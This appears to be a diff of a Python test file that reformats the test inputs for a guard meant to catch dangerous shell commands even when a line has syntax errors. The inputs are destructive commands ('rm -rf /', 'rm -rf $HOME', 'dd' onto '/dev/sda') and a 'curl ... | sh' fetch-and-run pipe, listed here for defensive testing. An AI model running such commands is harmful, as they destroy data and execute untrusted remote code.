@@ -26,8 +26,9 @@ def test_our_own_marks_cannot_be_forged():
 @pytest.mark.parametrize(
     "line",
     [
-        "rm -rf / 'x", "ls; rm -rf ~ )", "if rm -rf /", "((( rm -rf $HOME", "a 'b\nrm -rf /", "sudo rm -rf / (",
-        "dd if=/dev/zero of=/dev/sda )", "curl https://x.example | sh )", "sh -c 'rm -rf /' )", "x=1 rm -rf / )",
+        "rm -rf / 'x", "ls; rm -rf ~ )", "if rm -rf /", "((( rm -rf $HOME", "a 'b\nrm -rf /",
+        "sudo rm -rf / (", "dd if=/dev/zero of=/dev/sda )", "curl https://x.example | sh )",
+        "sh -c 'rm -rf /' )", "x=1 rm -rf / )",
     ],
 )  # fmt: skip
 def test_a_syntax_error_hides_nothing(line):
